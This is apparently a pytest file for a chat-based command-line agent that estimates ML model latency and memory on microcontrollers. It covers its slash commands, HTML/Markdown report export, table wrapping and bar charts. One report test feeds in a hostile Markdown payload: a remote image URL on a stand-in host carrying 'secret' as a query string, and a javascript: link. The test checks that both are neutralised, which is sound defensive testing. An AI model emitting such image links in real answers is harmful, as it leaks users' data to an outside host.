from __future__ import annotations

import io
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgewright.agent.repl.bars import ROWS_AT_MOST, Bar, chart, draws_blocks
from edgewright.agent.repl.chat import Chat
from edgewright.agent.repl.fitting import fitted
from edgewright.agent.repl.prompt import pinned
from edgewright.agent.repl.screen import PlainScreen
from edgewright.agent.repl.state import ChatState
from edgewright.agent.sessions.session import OpenSession
from edgewright.agent.sessions.transcript import Transcript
from edgewright.agent.workspace import Workspace
from edgewright.tools.core.render.table import pipe_table
from edgewright.tools.model_formats.writer.save import save_tflite
from edgewright.tools.model_zoo.named import build_architecture
from stubs.fake_conversation import FakeConversation, calls, says

Tell = Callable[[str], str]
KEY = "canary-0123456789-of-a-report"


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ChatState:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "100")
    script = [*calls("plan_memory", {}, model="kws", target="stm32h743zi"), *says(f"It fits. <b>{KEY}</b>")]
    return ChatState(
        Workspace(tmp_path), FakeConversation(script), OpenSession(Transcript(tmp_path / "talk.db"))
    )


@pytest.fixture
def tell(state: ChatState) -> Tell:
    out = io.StringIO()
    chat = Chat(state, PlainScreen(out))

    def take(line: str) -> str:
        out.seek(0)
        out.truncate()
        chat.take(line)
        return out.getvalue()

    return take


class TestLimits:
    def test_pinned_limits_stand_in_the_prompt_and_in_what_the_model_is_shown(
        self, tell: Tell, state: ChatState
    ) -> None:
        tell("/model kws")
        assert tell("/limits 50ms 256KiB 20fps") == "Limits: latency ≤ 50 ms, rate ≥ 20 /s, RAM ≤ 256 KiB\n"
        assert pinned(state.workspace) == "kws (latency ≤ 50 ms, rate ≥ 20 /s, RAM ≤ 256 KiB)"
        assert state.workspace.context["limits"] == "latency_ms=50 ram_bytes=262144 rate_hz=20"

    def test_a_check_without_limits_uses_the_pinned_ones_and_its_own_win(self, tell: Tell) -> None:
        tell("/model kws")
        tell("/target stm32h743zi")
        tell("/limits 1us")
        assert "FAIL" in tell("/check")
        assert "FAIL" in tell("/check 1MiB")
        assert "FAIL" not in tell("/check 10s")
        tell("/limits none")
        assert "FAIL" not in tell("/check")

    def test_a_limit_that_cannot_be_meant_keeps_the_pinned_ones(self, tell: Tell, state: ChatState) -> None:
        tell("/limits 50ms")
        assert "no limit" in tell("/limits soon")
        assert state.workspace.limits == {"latency_ms": 50.0}

    def test_limits_go_with_a_conversation_that_is_gone_on_with(self, tell: Tell, state: ChatState) -> None:
        tell("/limits 50ms")
        assert state.workspace.pinned["limits"] == {"latency_ms": 50.0}


class TestCommands:
    def test_what_is_not_pinned_is_what_the_last_question_was_about(self, tell: Tell) -> None:
        assert "No model was named" in tell("/memory")
        tell("Does kws fit on an h743?")
        assert "Memory on stm32h743zi" in tell("/memory")

    @pytest.mark.parametrize(
        ("line", "told"),
        [
            ("/estimate kws stm32h743zi", "Latency by layer"),
            ("/memory kws stm32h743zi", "Memory alive by operator"),
            ("/timeline kws stm32h743zi", "Timeline on stm32h743zi"),
            ("/optimize kws:int8 stm32h743zi", "prune-50"),
        ],
    )
    def test_an_analysis_is_one_line_away(self, tell: Tell, line: str, told: str) -> None:
        assert told in tell(line)

    def test_one_target_is_compared_with_the_pinned_one(self, tell: Tell) -> None:
        tell("/model kws")
        assert "two targets" in tell("/compare esp32-s3")
        tell("/target stm32h743zi")
        told = tell("/compare esp32-s3")
        assert "stm32h743zi" in told
        assert "esp32-s3" in told


class TestReport:
    def test_a_page_holds_answers_and_analyses_in_order_and_loads_nothing(
        self, tell: Tell, state: ChatState, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("SOME_API_KEY", KEY)
        save_tflite(build_architecture("kws", dtype="int8"), tmp_path / "kws.tflite")
        tell("/model kws.tflite")
        tell("/inspect")
        tell("Does it fit?")
        assert "Wrote 1 answers and 1 analyses" in tell("/report page.html")
        page = (tmp_path / "page.html").read_text()
        assert page.index("/inspect") < page.index("Does it fit?") < page.index("It fits.")
        assert re.search(r"SHA-256 [0-9a-f]{64}", page)
        assert "<b>" not in page
        assert KEY not in page
        assert not re.search(r"(?:src|href)=|https?:", page)

    def test_a_report_overwrites_nothing_and_says_what_it_cannot_write(
        self, tell: Tell, tmp_path: Path
    ) -> None:
        assert "nothing to report" in tell("/report page.md")
        tell("/inspect kws")
        tell("/report page.md")
        before = (tmp_path / "page.md").read_text()
        assert "exists" in tell("/report page.md")
        assert "neither .md nor .html" in tell("/report page.pdf")
        assert (tmp_path / "page.md").read_text() == before

    def test_remote_images_and_links_of_an_answer_stay_text(self, tmp_path: Path) -> None:
        from edgewright.agent.repl.report import as_page

        page = as_page(
            "![x](https://evil.example/?q=secret) [y](javascript:alert(1)) <img src=z> <https://a.b>"
        )
        assert "<img" not in page
        assert "<a " not in page


class TestFitting:
    TABLE = pipe_table(
        ("Layer", "Operator", "Latency ms", "Why"),
        [(0, "DEPTHWISE_CONV_2D", 1.25, "no kernel for this type in the library that was named")],
    )

    @pytest.mark.parametrize("width", [48, 60, 80])
    def test_a_wide_table_is_wrapped_to_the_width_and_loses_no_word(self, width: int) -> None:
        lines = fitted(self.TABLE, width).split("\n")
        assert max(map(len, lines)) <= width
        shown = "".join(lines).replace("|", " ").split()
        words = {"no", "kernel", "for", "this", "type", "in", "the", "library", "that", "was", "named"}
        assert words <= set(shown)

    def test_where_no_wrapping_helps_the_last_columns_go_and_are_named(self) -> None:
        table = pipe_table([f"Column {i}" for i in range(9)], [[123456789] * 9])
        lines = fitted(table, 50).split("\n")
        assert max(map(len, lines)) <= 50
        assert "not shown" in lines[-1] or "not shown" in lines[-2]
        assert "Column 8" in " ".join(lines)

    def test_what_fits_stays_as_it_is(self) -> None:
        assert fitted(self.TABLE, 200) == self.TABLE
        code = "    indented = code_that_is_longer_than_any_line_may_be_in_this_terminal"
        assert fitted(code, 40) == code

    @given(st.text(alphabet="|- :ab\n\\_", max_size=80), st.integers(20, 60))
    def test_anything_that_looks_like_a_table_is_laid_out_without_failing(
        self, text: str, width: int
    ) -> None:
        assert isinstance(fitted(text, width), str)


class TestBars:
    def test_bars_are_as_long_as_their_share(self) -> None:
        told = chart(
            "Latency", [Bar(0, "A", 4.0), Bar(1, "B", 2.0), Bar(2, "C", None)], "ms", 60, blocks=False
        )
        _, first, second, rest = told.split("\n")
        assert first.count("#") == 2 * second.count("#") == 40
        assert rest.strip() == "… and 1 more"

    def test_of_many_layers_the_heaviest_are_drawn_and_the_rest_counted(self) -> None:
        told = chart("Latency", [Bar(i, "OP", float(i)) for i in range(236)], "ms", 80, blocks=True)
        assert told.count("█") > 0
        assert len(told.split("\n")) == ROWS_AT_MOST + 2
        assert told.endswith("… and 212 more")

    def test_nothing_known_draws_nothing(self) -> None:
        assert chart("Latency", [Bar(0, "A", None), Bar(1, "B", 0.0)], "ms", 60, blocks=True) == ""

    @pytest.mark.parametrize(
        ("environment", "encoding", "blocks"),
        [
            ({"TERM": "xterm"}, "utf-8", True),
            ({"TERM": "dumb"}, "utf-8", False),
            ({"TERM": "xterm", "NO_COLOR": "1"}, "utf-8", False),
            ({"TERM": "xterm"}, "ascii", False),
        ],
    )
    def test_blocks_are_drawn_where_they_can_be_shown(
        self, environment: dict[str, str], encoding: str, blocks: bool, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        for name in ("TERM", "NO_COLOR"):
            monkeypatch.delenv(name, raising=False)
        for name, value in environment.items():
            monkeypatch.setenv(name, value)
        with open(os.devnull, "w", encoding=encoding) as stream:
            assert draws_blocks(stream) is blocks


def test_an_answer_in_a_report_keeps_its_marks(tell: Tell, state: ChatState, tmp_path: Path) -> None:
    state.conversation = FakeConversation(says("It takes 9 ms ⚠ not from a tool.", ungrounded=("9 ms",)))
    tell("How long?")
    tell("/report page.md")
    assert "9 ms ⚠ not from a tool" in (tmp_path / "page.md").read_text()
